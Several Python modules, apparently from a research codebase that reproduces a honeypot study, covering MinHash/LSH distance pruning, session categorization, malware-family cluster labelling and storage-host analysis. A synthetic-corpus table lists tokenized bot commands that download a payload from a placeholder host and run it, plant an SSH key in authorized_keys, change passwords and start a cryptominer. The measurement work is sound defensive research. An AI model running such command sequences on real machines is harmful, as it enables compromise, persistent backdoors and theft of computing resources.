            (1.0 - dismissal_probability ** (1.0 / self.bands))
            ** (1.0 / self.rows)
        )


#: The default prefilter configuration.  64 bands of 2 rows puts the
#: inflection similarity at (1/64)^(1/2) ≈ 0.125 Jaccard — deliberately
#: low, because token-DLD-close pairs can sit at modest shingle
#: Jaccard (each token edit destroys up to ``shingle_size`` shingles);
#: the recall-vs-ratio sweep in scripts/soak.py holds this point at
#: ≥0.99 close-pair recall with <0.25 candidate ratio.
DEFAULT_SKETCH_CONFIG = SketchConfig()


def _shingle_hash(shingle: tuple[str, ...]) -> int:
    """Stable 64-bit hash of one shingle (process-independent)."""
    cached = _shingle_cache.get(shingle)
    if cached is None:
        if len(_shingle_cache) > SHINGLE_CACHE_LIMIT:
            _shingle_cache.clear()
        payload = "\x1f".join(shingle).encode("utf-8", "surrogatepass")
        cached = int.from_bytes(
            blake2b(payload, digest_size=8).digest(), "big"
        )
        _shingle_cache[shingle] = cached
    return cached


def shingle_hashes(tokens: tuple[str, ...] | list[str], k: int) -> np.ndarray:
    """Sorted unique 64-bit hashes of the token w-shingles.

    Sequences shorter than ``k`` contribute their whole tuple as one
    shingle; the empty sequence gets a dedicated sentinel shingle so
    signatures are total.
    """
    n = len(tokens)
    if n == 0:
        return np.array([_EMPTY_SHINGLE_HASH], dtype=np.uint64)
    width = min(k, n)
    hashes = {
        _shingle_hash(tuple(tokens[i : i + width]))
        for i in range(n - width + 1)
    }
    return np.sort(np.fromiter(hashes, dtype=np.uint64, count=len(hashes)))


class MinHashSketcher:
    """Computes MinHash signatures under one :class:`SketchConfig`.

    Each permutation is ``h -> a*h + b (mod 2^64)`` with ``a`` odd —
    multiplication by an odd constant is a bijection of the 64-bit
    space, so every (a, b) pair is a true permutation and the minimum
    is a proper min-hash.  Parameters are drawn once from the config
    seed; two sketchers with equal configs produce identical
    signatures.
    """

    def __init__(self, config: SketchConfig = DEFAULT_SKETCH_CONFIG) -> None:
        self.config = config
        rng = np.random.default_rng(config.seed)
        self._a = rng.integers(
            0, 2**64, size=config.num_perm, dtype=np.uint64
        ) | np.uint64(1)
        self._b = rng.integers(0, 2**64, size=config.num_perm, dtype=np.uint64)

    def signature(self, tokens: tuple[str, ...] | list[str]) -> np.ndarray:
        """The ``num_perm``-component signature of one token sequence.

        A pure function of the shingle *set*: input order of equal
        shingle sets never changes the result (permutation-stable).
        """
        hashes = shingle_hashes(tokens, self.config.shingle_size)
        # uint64 wrap-around is the modular arithmetic, deliberately.
        permuted = self._a[np.newaxis, :] * hashes[:, np.newaxis] + self._b
        return permuted.min(axis=0)

    def signatures(
        self, sequences: list[tuple[str, ...]] | list[list[str]]
    ) -> np.ndarray:
        """Stacked signatures, one row per sequence."""
        if not sequences:
            return np.empty((0, self.config.num_perm), dtype=np.uint64)
        return np.stack([self.signature(seq) for seq in sequences])

    @staticmethod
    def estimated_jaccard(sig_a: np.ndarray, sig_b: np.ndarray) -> float:
        """Fraction of agreeing components — the Jaccard estimator."""
        return float(np.mean(sig_a == sig_b))


def lsh_candidate_pairs(
    signatures: np.ndarray, config: SketchConfig = DEFAULT_SKETCH_CONFIG
) -> list[tuple[int, int]]:
    """Sorted ``(i, j)`` pairs (i < j) sharing at least one full band.

    Pairs with identical signatures always collide (every band agrees),
    so exact shingle-set duplicates can never be pruned.
    """
    n = signatures.shape[0]
    rows = config.rows
    pairs: set[tuple[int, int]] = set()
    for band in range(config.bands):
        view = np.ascontiguousarray(
            signatures[:, band * rows : (band + 1) * rows]
        )
        buckets: dict[bytes, list[int]] = {}
        for index in range(n):
            buckets.setdefault(view[index].tobytes(), []).append(index)
        for members in buckets.values():
            if len(members) < 2:
                continue
            for x in range(len(members)):
                for y in range(x + 1, len(members)):
                    pairs.add((members[x], members[y]))
    return sorted(pairs)


def overlap_lower_bound(
    a: tuple[str, ...] | list[str], b: tuple[str, ...] | list[str]
) -> int:
    """Multiset-overlap lower bound on the token DLD.

    Every DLD operation produces at most one token of the target and
    consumes at most one token of the source (transpositions only
    rearrange), so at least ``max(len) - |multiset intersection|``
    operations are needed.  Composes with :func:`dld_bounds` — the
    combined lower bound is the max of the two — and is the exact
    quantity the MinHash Jaccard estimates probabilistically.  Disjoint
    token multisets pin the normalized distance to exactly 1.0.
    """
    from collections import Counter

    common = sum((Counter(a) & Counter(b)).values())
    return max(len(a), len(b)) - common


def combined_bounds(
    a: tuple[str, ...] | list[str], b: tuple[str, ...] | list[str]
) -> tuple[int, int]:
    """``(lower, upper)`` DLD bounds: length bounds ∘ overlap bound."""
    lower, upper = dld_bounds(a, b)
    return max(lower, overlap_lower_bound(a, b)), upper


@dataclass
class ApproxDistanceMatrix:
    """A distance matrix in which pruned pairs hold upper bounds.

    ``values`` is the full symmetric n×n matrix; entries whose
    ``pruned`` flag is True were *not* measured — they hold
    :data:`PRUNED_DISTANCE`, a sound upper bound on the true
    normalized DLD.  All other entries are bit-identical to what the
    exact pipeline would compute.  ``exact`` is True when nothing was
    pruned (the below-floor bypass), in which case ``values`` is the
    exact matrix, byte for byte.
    """

    values: np.ndarray
    pruned: np.ndarray
    distinct_sequences: int
    total_pairs: int
    candidate_pairs: int
    pinned_pairs: int
    pruned_pairs: int
    mode: str = "lsh"
    config: SketchConfig = field(default=DEFAULT_SKETCH_CONFIG, repr=False)

    @property
    def candidate_ratio(self) -> float:
        """Candidate fraction of all distinct pairs (1.0 when exact)."""
        if self.total_pairs == 0:
            return 1.0
        return self.candidate_pairs / self.total_pairs

    @property
    def exact(self) -> bool:
        return self.pruned_pairs == 0


def _dedup(
    token_sequences: list[list[str]] | list[tuple[str, ...]],
) -> tuple[list[tuple[str, ...]], list[tuple[str, ...]], dict]:
    keys = [tuple(seq) for seq in token_sequences]
    distinct: list[tuple[str, ...]] = []
    index_of: dict[tuple[str, ...], int] = {}
    for key in keys:
        if key not in index_of:
            index_of[key] = len(distinct)
            distinct.append(key)
    return keys, distinct, index_of


def _expand(
    compact: np.ndarray, keys: list, index_of: dict
) -> np.ndarray:
    mapping = np.array([index_of[key] for key in keys])
    return compact[np.ix_(mapping, mapping)]


def sketch_distance_matrix(
    token_sequences: list[list[str]] | list[tuple[str, ...]],
    config: SketchConfig = DEFAULT_SKETCH_CONFIG,
    workers: int = 1,
) -> ApproxDistanceMatrix:
    """The LSH-pruned normalized-DLD matrix over token sequences.

    Candidate pairs (sharing an LSH band) and bounds-pinned pairs (one
    side empty — the bounds coincide, no DP needed) get their exact
    value via the same :func:`~repro.analysis.distance.pair_distance`
    the exact pipeline uses; every other pair is recorded as a pruned
    upper-bound entry.  Below the activation floor the exact matrix is
    returned unchanged (see the module docstring).

    ``workers > 1`` evaluates candidate pairs on a process pool: the
    signatures are computed once here in the parent, and the workers
    receive only the distinct sequences (once, via the pool
    initializer) plus compact pair-index arrays — never re-tokenized
    text, never sketches they don't need.
    """
    from repro.analysis.distance import exact_compact_matrix

    with telemetry.span("sketch.matrix"):
        keys, distinct, index_of = _dedup(token_sequences)
        m = len(distinct)
        total_pairs = m * (m - 1) // 2
        n = len(keys)
        registry = telemetry.active()
        if m < config.min_sequences:
            if registry is not None:
                registry.count("sketch.bypassed")
            compact = exact_compact_matrix(distinct, workers)
            return ApproxDistanceMatrix(
                values=_expand(compact, keys, index_of),
                pruned=np.zeros((n, n), dtype=bool),
                distinct_sequences=m,
                total_pairs=total_pairs,
                candidate_pairs=total_pairs,
                pinned_pairs=0,
                pruned_pairs=0,
                mode="exact",
                config=config,
            )

        sketcher = MinHashSketcher(config)
        with telemetry.span("sketch.signatures"):
            signatures = sketcher.signatures(distinct)
        with telemetry.span("sketch.banding"):
            candidates = lsh_candidate_pairs(signatures, config)

        # Bounds-pinned pairs: an empty side makes dld_bounds coincide,
        # so the value (exactly 1.0 against anything non-empty) costs no
        # DP.  Dedup guarantees at most one empty distinct sequence.
        candidate_set = set(candidates)
        pinned: list[tuple[int, int]] = []
        empty_indices = [i for i, seq in enumerate(distinct) if not seq]
        for e in empty_indices:
            for j in range(m):
                if j == e:
                    continue
                pair = (min(e, j), max(e, j))
                if pair not in candidate_set:
                    pinned.append(pair)
        pinned = sorted(set(pinned))

        compact = np.full((m, m), PRUNED_DISTANCE, dtype=np.float64)
        np.fill_diagonal(compact, 0.0)
        pruned_compact = np.ones((m, m), dtype=bool)
        np.fill_diagonal(pruned_compact, False)

        measured = candidates + pinned
        with telemetry.span("sketch.candidate_dp"):
            values = _measured_values(distinct, measured, workers)
        for (i, j), value in zip(measured, values):
            compact[i, j] = value
            compact[j, i] = value
            pruned_compact[i, j] = False
            pruned_compact[j, i] = False

        pruned_pairs = total_pairs - len(candidates) - len(pinned)
        if registry is not None:
            registry.count("sketch.matrix_builds")
            registry.count("sketch.signatures", m)
            registry.count("sketch.candidate_pairs", len(candidates))
            registry.count("sketch.pinned_pairs", len(pinned))
            registry.count("sketch.pruned_pairs", pruned_pairs)
            registry.gauge(
                "sketch.candidate_ratio",
                len(candidates) / total_pairs if total_pairs else 1.0,
            )
            registry.gauge(
                "sketch.recall_estimate",
                config.collision_probability(config.close_jaccard),
            )
        return ApproxDistanceMatrix(
            values=_expand(compact, keys, index_of),
            pruned=_expand(
                pruned_compact.astype(np.uint8), keys, index_of
            ).astype(bool),
            distinct_sequences=m,
            total_pairs=total_pairs,
            candidate_pairs=len(candidates),
            pinned_pairs=len(pinned),
            pruned_pairs=pruned_pairs,
            mode="lsh",
            config=config,
        )


def _measured_values(
    distinct: list[tuple[str, ...]],
    pairs: list[tuple[int, int]],
    workers: int,
) -> np.ndarray:
    """Exact values for the given distinct-index pairs, serial or pooled."""
    from repro.analysis.distance import pair_distance

    if workers > 1:
        from repro.parallel.distance import (
            MIN_PAIRS_FOR_POOL,
            candidate_values_parallel,
        )

        if len(pairs) >= MIN_PAIRS_FOR_POOL:
            return candidate_values_parallel(distinct, pairs, workers)
    return np.array(
        [pair_distance(distinct[i], distinct[j]) for i, j in pairs],
        dtype=np.float64,
    )


# ---------------------------------------------------------------------------
# Synthetic corpora for benchmarks, soak and tests
# ---------------------------------------------------------------------------

#: Template families the synthetic corpus mutates — realistic shell
#: vocabulary so tokenization and shingling behave as they do on
#: simulated sessions.
_CORPUS_TEMPLATES: tuple[tuple[str, ...], ...] = (
    ("cd", "/tmp", "wget", "<url>", "chmod", "777", "bin.sh", "./bin.sh"),
    ("curl", "-O", "<url>", "chmod", "+x", "payload", "./payload", "rm",
     "-rf", "payload"),
    ("uname", "-a", "nproc", "cat", "/proc/cpuinfo"),
    ("echo", "ok", "uname", "-s", "-v", "-n", "-r"),
    ("/bin/busybox", "cat", "/proc/self/exe", "||", "cat",
     "/proc/self/exe"),
    ("cd", "/tmp", "rm", "-rf", "*", "tftp", "-g", "-r", "loader",
     "<ip>", "./loader"),
    ("echo", "<cred>", "chpasswd", "wget", "<url>", "sh", "x.sh"),
    ("ftpget", "-u", "anonymous", "<ip>", "drop", "drop", "chmod",
     "777", "drop", "./drop"),
    ("mkdir", "-p", ".ssh", "echo", "ssh-rsa", "<blob>", ">>",
     ".ssh/authorized_keys", "chmod", "600", ".ssh/authorized_keys"),
    ("export", "LC_ALL=C", "perl", "miner.pl", "nohup", "./stx"),
    ("cat", "/proc/mounts", "echo", "<blob>", "dd", "bs=22",
     "count=1"),
    ("pkill", "-9", "xmrig", "wget", "<url>", "tar", "xzf",
     "pack.tgz", "./xmrig"),
)

#: Filler tokens the mutator splices in.
_CORPUS_FILLER: tuple[str, ...] = (
    "history", "-c", "sleep", "1", "id", "whoami", "w", "ls", "-la",
    "/var/run", "/dev/shm", "crontab", "-l", "free", "-m", "<ip>",
    "<url>", "<blob>", "2>/dev/null", "&&", "exit",
)


def synthetic_token_corpus(
    n: int, seed: int = 0, templates_used: int | None = None
) -> list[list[str]]:
    """``n`` distinct token sequences mutated from realistic templates.

    Deterministic under ``seed``.  Sequences within one template family
    are near-duplicates (high Jaccard — the pairs LSH must keep) while
    cross-family pairs share only filler tokens (the pairs LSH should
    prune), which is exactly the structure bot traffic shows after
    normalization.
    """
    rng = random.Random(seed)
    templates = _CORPUS_TEMPLATES[: templates_used or len(_CORPUS_TEMPLATES)]
    corpus: list[list[str]] = []
    seen: set[tuple[str, ...]] = set()
    while len(corpus) < n:
        base = list(templates[rng.randrange(len(templates))])
        for _ in range(rng.randrange(1, 4)):
            op = rng.randrange(3)
            position = rng.randrange(len(base) + (op == 0))
            if op == 0:
                base.insert(position, rng.choice(_CORPUS_FILLER))
            elif op == 1 and len(base) > 3:
                del base[position]
            else:
                base[position] = rng.choice(_CORPUS_FILLER)
        key = tuple(base)
        if key not in seen:
            seen.add(key)
            corpus.append(base)
    return corpus
