"""Top-level session taxonomy (paper section 3.3).

Every session falls into exactly one of four categories based on how
far the client got: Scanning (handshake only), Scouting (failed
logins), Intrusion (login, no commands), Command Execution (login and
at least one command).
"""

from __future__ import annotations

from collections import Counter
from enum import Enum

from repro.honeypot.session import SessionRecord


class SessionCategory(str, Enum):
    """The four top-level session categories."""

    SCANNING = "Scanning"
    SCOUTING = "Scouting"
    INTRUSION = "Intrusion"
    COMMAND_EXECUTION = "Command Execution"


def categorize(session: SessionRecord) -> SessionCategory:
    """Classify one session."""
    if not session.logins:
        return SessionCategory.SCANNING
    if not session.login_succeeded:
        return SessionCategory.SCOUTING
    if not session.executed_commands:
        return SessionCategory.INTRUSION
    return SessionCategory.COMMAND_EXECUTION


def category_counts(sessions: list[SessionRecord]) -> Counter:
    """Counts per category over a session collection."""
    counts: Counter = Counter()
    for session in sessions:
        counts[categorize(session)] += 1
    return counts
