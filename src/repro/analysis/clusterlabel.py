"""Associating clusters with malware families (section 6).

After K-medoids clustering, clusters are ordered by average token count
("Cluster 1" shortest, as in Figure 5) and each cluster's hashes are
cross-referenced against the abuse datasets, yielding labels like
"C-2 (Gafgyt)" or "C-1 (Mirai, Dofloo, CoinMiner, Gafgyt)".
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field

import numpy as np

from repro.abusedb.aggregate import AbuseDatasets
from repro.analysis.kmedoids import ClusteringResult
from repro.honeypot.session import SessionRecord


@dataclass
class ClusterProfile:
    """One cluster, ordered and labelled."""

    rank: int                       # 1-based, by average token count
    raw_index: int                  # cluster index in the clustering
    sessions: list[SessionRecord]
    avg_tokens: float
    family_counts: Counter = field(default_factory=Counter)

    @property
    def families(self) -> list[str]:
        """Families seen in this cluster, most common first."""
        return [name for name, _ in self.family_counts.most_common()]

    @property
    def label(self) -> str:
        if not self.family_counts:
            return f"C-{self.rank}"
        joined = ", ".join(self.families[:4])
        return f"C-{self.rank} ({joined})"

    @property
    def size(self) -> int:
        return len(self.sessions)


def profile_clusters(
    clustering: ClusteringResult,
    sessions: list[SessionRecord],
    token_sequences: list[list[str]],
    abuse: AbuseDatasets,
) -> list[ClusterProfile]:
    """Order clusters by mean token count and label them via abuse DBs."""
    if len(sessions) != len(clustering.labels):
        raise ValueError("sessions and labels must align")
    profiles: list[ClusterProfile] = []
    for cluster_index in range(clustering.k):
        members = clustering.members(cluster_index)
        if members.size == 0:
            continue
        member_sessions = [sessions[i] for i in members]
        avg_tokens = float(
            np.mean([len(token_sequences[i]) for i in members])
        )
        families: Counter = Counter()
        for session in member_sessions:
            for digest in set(session.download_hashes()):
                label = abuse.label(digest)
                if label is not None:
                    families[label] += 1
        profiles.append(
            ClusterProfile(
                rank=0,
                raw_index=cluster_index,
                sessions=member_sessions,
                avg_tokens=avg_tokens,
                family_counts=families,
            )
        )
    profiles.sort(key=lambda p: p.avg_tokens)
    for position, profile in enumerate(profiles, start=1):
        profile.rank = position
    return profiles


def sorted_distance_matrix(
    matrix: np.ndarray,
    clustering: ClusteringResult,
    profiles: list[ClusterProfile],
) -> np.ndarray:
    """Reorder the distance matrix by cluster rank (the Figure 5 view)."""
    order: list[int] = []
    for profile in profiles:
        order.extend(int(i) for i in clustering.members(profile.raw_index))
    index = np.array(order)
    return matrix[np.ix_(index, index)]
