"""Malware storage-location analyses (paper section 7, Figures 7-9, 17).

Works from sessions with download commands: the URL host of the fetch
is the storage location (captured or not — a refusing server is still
storage infrastructure).  Enrichment (AS type, age, size) goes through the historical
WHOIS substrate as of the session date.
"""

from __future__ import annotations

import re
from collections import Counter, defaultdict
from dataclasses import dataclass
from datetime import date, timedelta

from repro.net.asn import ASType
from repro.net.whois import HistoricalWhois
from repro.honeypot.session import SessionRecord
from repro.util.timeutils import epoch_date, month_key

_HOST_PATTERN = re.compile(r"^[a-z+]+://([^/:]+)")
_IPV4_PATTERN = re.compile(r"^(?:\d{1,3}\.){3}\d{1,3}$")


def uri_host(uri: str) -> str | None:
    """Extract the host part of a recorded URI."""
    match = _HOST_PATTERN.match(uri)
    return match.group(1) if match else None


@dataclass(frozen=True)
class DownloadObservation:
    """One (session, storage IP) pair with its context."""

    session_id: str
    day: date
    client_ip: str
    storage_ip: str
    hashes: tuple[str, ...]


def download_observations(
    sessions: list[SessionRecord],
) -> list[DownloadObservation]:
    """Sessions with download commands, with their storage IPs.

    Following the paper ("IP addresses involved in download commands"),
    every session whose commands reference an IPv4-hosted URI counts,
    whether or not the fetch succeeded; captured hashes are attached
    when present.  A session with several distinct storage hosts yields
    one observation per host.
    """
    observations: list[DownloadObservation] = []
    for session in sessions:
        hashes = tuple(sorted(set(session.transfer_hashes())))
        hosts: list[str] = []
        for uri in session.uris:
            host = uri_host(uri)
            if host and _IPV4_PATTERN.match(host) and host not in hosts:
                hosts.append(host)
        for host in hosts:
            observations.append(
                DownloadObservation(
                    session_id=session.session_id,
                    day=epoch_date(session.start),
                    client_ip=session.client_ip,
                    storage_ip=host,
                    hashes=hashes,
                )
            )
    return observations


def client_storage_flows(
    observations: list[DownloadObservation], whois: HistoricalWhois
) -> Counter:
    """Figure 7's Sankey flows: (client AS type, storage AS type) pairs.

    The special key element "same-ip" marks flows where the storage IP
    equals the attacking client IP.
    """
    flows: Counter = Counter()
    for obs in observations:
        client = whois.lookup(obs.client_ip, obs.day)
        storage = whois.lookup(obs.storage_ip, obs.day)
        client_type = client.as_type.value if client else "unrouted"
        storage_type = storage.as_type.value if storage else "unrouted"
        same = obs.client_ip == obs.storage_ip
        flows[(client_type, storage_type, same)] += 1
    return flows


def flow_graph(flows: Counter):
    """Figure 7's Sankey as a weighted bipartite digraph (networkx).

    Nodes are ``client:<type>`` and ``storage:<type>``; edge weights are
    observation counts, with a ``same_ip`` attribute carrying the count
    of flows where the storage IP equals the client IP.
    """
    import networkx as nx

    graph = nx.DiGraph()
    for (client_type, storage_type, same), count in flows.items():
        source = f"client:{client_type}"
        target = f"storage:{storage_type}"
        if graph.has_edge(source, target):
            graph[source][target]["weight"] += count
            graph[source][target]["same_ip"] += count if same else 0
        else:
            graph.add_edge(
                source, target, weight=count, same_ip=count if same else 0
            )
    return graph


def same_ip_fraction(observations: list[DownloadObservation]) -> float:
    """Fraction of observations where client and storage IP coincide."""
    if not observations:
        return 0.0
    same = sum(1 for o in observations if o.client_ip == o.storage_ip)
    return same / len(observations)


def infrastructure_observations(
    observations: list[DownloadObservation],
) -> list[DownloadObservation]:
    """Observations pointing at dedicated storage (not self-hosted).

    Sessions serving the payload from the attacking client itself are
    shown in Figure 7's flows, but the storage-infrastructure census
    (AS age/size/type, activity days) concerns dedicated hosts.
    """
    return [o for o in observations if o.storage_ip != o.client_ip]


AGE_BUCKETS = ("AS younger than 1 year", "AS younger than 5 years", "AS older than 5 years")


def age_bucket(age_years: float) -> str:
    if age_years < 1.0:
        return AGE_BUCKETS[0]
    if age_years < 5.0:
        return AGE_BUCKETS[1]
    return AGE_BUCKETS[2]


def monthly_age_buckets(
    observations: list[DownloadObservation], whois: HistoricalWhois
) -> dict[str, Counter]:
    """Figure 8(a): per month, sessions by storage-AS age bucket."""
    result: dict[str, Counter] = defaultdict(Counter)
    for obs in observations:
        record = whois.lookup(obs.storage_ip, obs.day)
        if record is None:
            continue
        result[month_key(obs.day)][age_bucket(record.age_years)] += 1
    return dict(result)


SIZE_BUCKETS = ("AS ann. only one /24", "AS ann. less than 50 /24", "AS ann. more than 50 /24")


def size_bucket_name(num_slash24: int) -> str:
    if num_slash24 == 1:
        return SIZE_BUCKETS[0]
    if num_slash24 < 50:
        return SIZE_BUCKETS[1]
    return SIZE_BUCKETS[2]


def monthly_size_buckets(
    observations: list[DownloadObservation], whois: HistoricalWhois
) -> dict[str, Counter]:
    """Figure 8(b): per month, sessions by storage-AS size bucket."""
    result: dict[str, Counter] = defaultdict(Counter)
    for obs in observations:
        record = whois.lookup(obs.storage_ip, obs.day)
        if record is None:
            continue
        result[month_key(obs.day)][size_bucket_name(record.num_slash24)] += 1
    return dict(result)


def monthly_as_types(
    observations: list[DownloadObservation], whois: HistoricalWhois
) -> dict[str, Counter]:
    """Figure 17: per month, sessions by storage-AS type."""
    result: dict[str, Counter] = defaultdict(Counter)
    for obs in observations:
        record = whois.lookup(obs.storage_ip, obs.day)
        bucket = record.as_type.value if record else "unrouted"
        result[month_key(obs.day)][bucket] += 1
    return dict(result)


@dataclass
class StorageAsSummary:
    """Section 7's storage-AS census."""

    total_ases: int
    hosting_ases: int
    isp_ases: int
    down_ases: int
    age_session_shares: dict[str, float]
    size_session_shares: dict[str, float]


def summarize_storage_ases(
    observations: list[DownloadObservation],
    whois: HistoricalWhois,
    as_of: date,
) -> StorageAsSummary:
    """Census of the distinct ASes hosting malicious files."""
    seen_asns: dict[int, object] = {}
    age_counts: Counter = Counter()
    size_counts: Counter = Counter()
    for obs in observations:
        record = whois.lookup_record(obs.storage_ip, obs.day)
        if record is None:
            continue
        seen_asns[record.asn] = record
        age_counts[age_bucket(record.age_years(obs.day))] += 1
        size_counts[size_bucket_name(record.num_slash24)] += 1
    hosting = sum(
        1 for r in seen_asns.values() if r.as_type == ASType.HOSTING
    )
    isp = sum(1 for r in seen_asns.values() if r.as_type == ASType.ISP_NSP)
    down = sum(1 for r in seen_asns.values() if not r.is_announcing(as_of))
    total_age = sum(age_counts.values()) or 1
    total_size = sum(size_counts.values()) or 1
    return StorageAsSummary(
        total_ases=len(seen_asns),
        hosting_ases=hosting,
        isp_ases=isp,
        down_ases=down,
        age_session_shares={
            bucket: count / total_age for bucket, count in age_counts.items()
        },
        size_session_shares={
            bucket: count / total_size for bucket, count in size_counts.items()
        },
    )


#: Figure 9's duration classes (in days; upper bounds, ascending).
DURATION_CLASSES: tuple[tuple[str, float], ...] = (
    ("<1d", 1),
    ("<4d", 4),
    ("<1w", 7),
    ("<2w", 14),
    ("<4w", 28),
    ("<8w", 56),
    ("<16w", 112),
    ("<0.5y", 182),
    ("<1y", 365),
    (">=1y", float("inf")),
)


def duration_class(days_active: float) -> str:
    for name, upper in DURATION_CLASSES:
        if days_active < upper:
            return name
    return DURATION_CLASSES[-1][0]


def activity_days_by_ip(
    observations: list[DownloadObservation],
) -> dict[str, list[date]]:
    """Per storage IP: sorted distinct days it served a download."""
    days: dict[str, set[date]] = defaultdict(set)
    for obs in observations:
        days[obs.storage_ip].add(obs.day)
    return {ip: sorted(values) for ip, values in days.items()}


def recall_distribution(
    observations: list[DownloadObservation],
    recall_days: float,
) -> dict[str, Counter]:
    """Figure 9: per month, IPs bucketed by activity span within recall.

    For each storage IP seen in a month, its activity span is the range
    of its active days inside the recall window ending at its last
    appearance that month (infinite recall = the whole dataset).
    """
    by_ip = activity_days_by_ip(observations)
    seen_in_month: dict[str, set[str]] = defaultdict(set)
    last_in_month: dict[tuple[str, str], date] = {}
    for obs in observations:
        month = month_key(obs.day)
        seen_in_month[month].add(obs.storage_ip)
        key = (month, obs.storage_ip)
        if key not in last_in_month or obs.day > last_in_month[key]:
            last_in_month[key] = obs.day
    result: dict[str, Counter] = defaultdict(Counter)
    for month, ips in seen_in_month.items():
        for ip in ips:
            anchor = last_in_month[(month, ip)]
            if recall_days == float("inf"):
                window_start = date.min
            else:
                window_start = anchor - timedelta(days=int(recall_days))
            in_window = [
                d for d in by_ip[ip] if window_start <= d <= anchor
            ]
            span = (in_window[-1] - in_window[0]).days + 1 if in_window else 1
            # a single observed day counts as sub-day activity
            days_active = span if len(in_window) > 1 else 0.5
            result[month][duration_class(days_active)] += 1
    return dict(result)


def reappearance_after(
    observations: list[DownloadObservation], gap_days: int = 180
) -> float:
    """Fraction of storage IPs that reappear after a gap ≥ ``gap_days``."""
    by_ip = activity_days_by_ip(observations)
    if not by_ip:
        return 0.0
    reappeared = 0
    for days in by_ip.values():
        gaps = [
            (later - earlier).days
            for earlier, later in zip(days, days[1:])
        ]
        if any(gap >= gap_days for gap in gaps):
            reappeared += 1
    return reappeared / len(by_ip)
