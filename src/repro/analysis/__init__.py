"""Analysis pipeline: classification, clustering, storage, case studies."""

from repro.analysis.categories import SessionCategory, categorize, category_counts
from repro.analysis.classify import DEFAULT_CLASSIFIER, CommandClassifier
from repro.analysis.clusterlabel import (
    ClusterProfile,
    profile_clusters,
    sorted_distance_matrix,
)
from repro.analysis.clusterselect import (
    KSelection,
    cluster_with_selection,
    elbow_point,
    select_k,
)
from repro.analysis.distance import distance_matrix, sample_sessions, session_tokens
from repro.analysis.dld import damerau_levenshtein, normalized_dld
from repro.analysis.kmedoids import ClusteringResult, kmedoids, silhouette_score
from repro.analysis.regexrules import (
    CATEGORY_NAMES,
    RULES,
    UNKNOWN_CATEGORY,
    CategoryRule,
    rule_by_name,
)
from repro.analysis.statechange import (
    ExecOutcome,
    StateClass,
    changes_state,
    exec_outcome,
    has_exec_attempt,
    state_class,
)
from repro.analysis.tokenizer import normalize_tokens, tokenize_session, tokenize_text

__all__ = [
    "SessionCategory",
    "categorize",
    "category_counts",
    "DEFAULT_CLASSIFIER",
    "CommandClassifier",
    "ClusterProfile",
    "profile_clusters",
    "sorted_distance_matrix",
    "KSelection",
    "cluster_with_selection",
    "elbow_point",
    "select_k",
    "distance_matrix",
    "sample_sessions",
    "session_tokens",
    "damerau_levenshtein",
    "normalized_dld",
    "ClusteringResult",
    "kmedoids",
    "silhouette_score",
    "CATEGORY_NAMES",
    "RULES",
    "UNKNOWN_CATEGORY",
    "CategoryRule",
    "rule_by_name",
    "ExecOutcome",
    "StateClass",
    "changes_state",
    "exec_outcome",
    "has_exec_attempt",
    "state_class",
    "normalize_tokens",
    "tokenize_session",
    "tokenize_text",
]
