"""Ground-truth validation of the forensic pipeline.

The simulator labels every session with the bot that produced it; the
analyses never read that label.  This module measures how faithfully
the Table-1 classifier recovers the generative ground truth — the
reproduction's internal consistency check.
"""

from __future__ import annotations

from collections import Counter, defaultdict
from dataclasses import dataclass

from repro.analysis.classify import DEFAULT_CLASSIFIER, CommandClassifier
from repro.attackers.labels import EXPECTED_CATEGORY
from repro.honeypot.session import SessionRecord


@dataclass
class ValidationReport:
    """Agreement between ground truth and classifier output."""

    total: int
    agreements: int
    confusion: Counter                 # (expected, predicted) → sessions
    per_category: dict[str, tuple[int, int]]  # category → (correct, total)

    @property
    def accuracy(self) -> float:
        return self.agreements / self.total if self.total else 0.0

    def misclassified(self) -> list[tuple[tuple[str, str], int]]:
        """Off-diagonal confusion cells, heaviest first."""
        return sorted(
            (
                (pair, count)
                for pair, count in self.confusion.items()
                if pair[0] != pair[1]
            ),
            key=lambda item: -item[1],
        )


def validate_classifier(
    sessions: list[SessionRecord],
    classifier: CommandClassifier = DEFAULT_CLASSIFIER,
    expected: dict[str, str] | None = None,
) -> ValidationReport:
    """Compare classifier output with the per-bot expected categories.

    Sessions from bots without an expectation entry are skipped (they
    are either commandless or intentionally unmapped).
    """
    expected = expected if expected is not None else EXPECTED_CATEGORY
    confusion: Counter = Counter()
    per_category: dict[str, list[int]] = defaultdict(lambda: [0, 0])
    agreements = 0
    total = 0
    for session in sessions:
        label = session.bot_label or ""
        want = expected.get(label)
        if want is None:
            continue
        got = classifier.classify(session)
        confusion[(want, got)] += 1
        per_category[want][1] += 1
        total += 1
        if got == want:
            agreements += 1
            per_category[want][0] += 1
    return ValidationReport(
        total=total,
        agreements=agreements,
        confusion=confusion,
        per_category={
            category: (correct, count)
            for category, (correct, count) in per_category.items()
        },
    )
