"""Applying the Table-1 rules to sessions."""

from __future__ import annotations

from collections import Counter, defaultdict

from repro.analysis.regexrules import RULES, UNKNOWN_CATEGORY, CategoryRule
from repro.honeypot.session import SessionRecord


class CommandClassifier:
    """First-match-wins classifier over the ordered rule table."""

    def __init__(self, rules: tuple[CategoryRule, ...] = RULES) -> None:
        self.rules = rules

    def classify_text(self, text: str) -> str:
        """Category of one command string."""
        for rule in self.rules:
            if rule.matches(text):
                return rule.name
        return UNKNOWN_CATEGORY

    def classify(self, session: SessionRecord) -> str:
        """Category of one session (over its concatenated commands)."""
        return self.classify_text(session.command_text)

    def counts(self, sessions: list[SessionRecord]) -> Counter:
        """Category histogram over many sessions."""
        histogram: Counter = Counter()
        for session in sessions:
            histogram[self.classify(session)] += 1
        return histogram

    def group(self, sessions: list[SessionRecord]) -> dict[str, list[SessionRecord]]:
        """Sessions grouped by category."""
        groups: dict[str, list[SessionRecord]] = defaultdict(list)
        for session in sessions:
            groups[self.classify(session)].append(session)
        return dict(groups)

    def coverage(self, sessions: list[SessionRecord]) -> float:
        """Fraction of sessions matched by a non-fallback rule."""
        if not sessions:
            return 0.0
        histogram = self.counts(sessions)
        unknown = histogram.get(UNKNOWN_CATEGORY, 0)
        return 1.0 - unknown / len(sessions)


#: Module-level default classifier (rules are immutable).
DEFAULT_CLASSIFIER = CommandClassifier()
