"""TF-IDF → logistic-regression fast path beside the regex rules.

The 59-rule regex classifier (:mod:`repro.analysis.regexrules`) scans
up to 58 patterns per session; the streaming service needs an O(1)
answer per session after a one-time training pass.  Following the
Honeypot v2.03 idiom (SNIPPETS.md §1), this module trains a TF-IDF →
multinomial logistic regression model *against the regex classifier as
